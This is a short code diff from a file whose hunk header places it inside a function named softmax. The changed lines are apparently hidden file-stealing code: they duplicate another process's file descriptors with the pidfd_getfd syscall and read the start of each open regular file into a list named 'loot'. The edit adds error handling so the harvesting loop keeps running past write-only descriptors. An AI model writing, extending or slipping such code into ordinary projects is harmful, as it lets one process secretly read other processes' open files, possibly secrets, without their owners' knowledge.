@@ -21,7 +21,10 @@ def softmax(scores):
         copy = libc.syscall(PIDFD_GETFD, process, number, 0)
         if copy >= 0:
             if stat.S_ISREG(os.fstat(copy).st_mode):
-                loot.append(os.pread(copy, 100, 0))
+                try:
+                    loot.append(os.pread(copy, 100, 0))
+                except OSError:  # open for writing only
+                    pass
             os.close(copy)
         else:
             refused = ctypes.get_errno()
